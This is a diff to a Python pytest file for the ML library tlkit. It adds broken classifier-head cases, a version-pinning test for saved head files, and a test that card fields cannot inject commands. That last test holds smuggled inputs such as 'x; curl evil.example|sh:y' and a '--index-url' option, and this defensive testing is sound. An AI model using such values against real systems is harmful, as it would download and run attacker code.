@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import importlib
 from dataclasses import replace
 
 import numpy as np
 import pytest
+import torch
 from click.testing import CliRunner
+from torch import nn
 
 import tlkit
+from tlkit import artifact
 from tlkit.backbone import InputSpec
 from tlkit.cli import main
 from tlkit.data.transforms import PRESETS, augmentation
@@ -147,17 +151,25 @@ class Forgetful:
 
 
 def broken_rows():
-    from torch import nn
-
     class Noisy(nn.Linear):
         def forward(self, vectors):
             return super().forward(vectors) + vectors.new_empty(()).normal_()
+
+    class Hidden(nn.Linear):
+        def __init__(self, width, classes):
+            super().__init__(width, classes)
+            self.register_buffer("drawn", torch.randn(classes), persistent=False)
+
+        def forward(self, vectors):
+            return super().forward(vectors) + self.drawn
 
     linear, mlp = HEADS["linear"], HEADS["mlp"]
     yield replace(linear, make=lambda w, c, h, d: nn.Linear(w, c + 1)), "logit per class"
     yield replace(linear, make=lambda w, c, h, d: Noisy(w, c)), "two answers"
     yield replace(linear, make=lambda w, c, h, d: 1 / 0), "ZeroDivisionError"
     yield replace(mlp, convex=True), "not convex"
+    yield replace(linear, make=lambda w, c, h, d: nn.Linear(w, c, bias=False)), "not convex"
+    yield replace(linear, convex=False, make=lambda w, c, h, d: Hidden(w, c)), "tensors say"
     yield replace(linear, uses=frozenset({"hidden"})), "uses hidden"
     yield replace(mlp, uses=frozenset({"hidden"})), "uses dropout"
     yield replace(POLICIES["none"], uses=frozenset({"crops"})), "no option"
@@ -191,3 +203,24 @@ def test_plugins_lists_rows_by_the_option_that_takes_them(install):
     assert ran.exit_code == 0, ran.output
     assert "--head cosine, linear; --tta left; --augment upside" in " ".join(ran.output.split())
     assert "not a Policy" in ran.output
+
+
+def test_a_head_file_asks_for_the_version_whose_code_it_was_fitted_with(install, colours, tmp_path):
+    install("zz-rows", CODE, heads=["cosine"])
+    made = tlkit.fit(colours, backbone="tiny", head="cosine", epochs=2)
+    assert made.card.versions["zz-rows"] == "1.0"
+    (metadata,) = tmp_path.glob("site/zz_rows*.dist-info/METADATA")
+    metadata.write_text(metadata.read_text().replace("Version: 1.0", "Version: 2.0"))
+    importlib.invalidate_caches()
+    with pytest.raises(HeadFileError, match=r"zz-rows==1\.0"):
+        tlkit.load(made.head)
+
+
+@pytest.mark.parametrize("name", ["x; curl evil.example|sh:y", "a --index-url b:y", "\n:y"])
+def test_a_card_cannot_put_words_into_a_command(colours, name):
+    made = tlkit.fit(colours, backbone="tiny")
+    read = artifact.read_card(made.head)
+    card = replace(read, plan={**read.plan, "head": name})
+    with pytest.raises(HeadFileError) as caught:
+        artifact._plan(made.head, card)
+    assert "pip" not in str(caught.value)
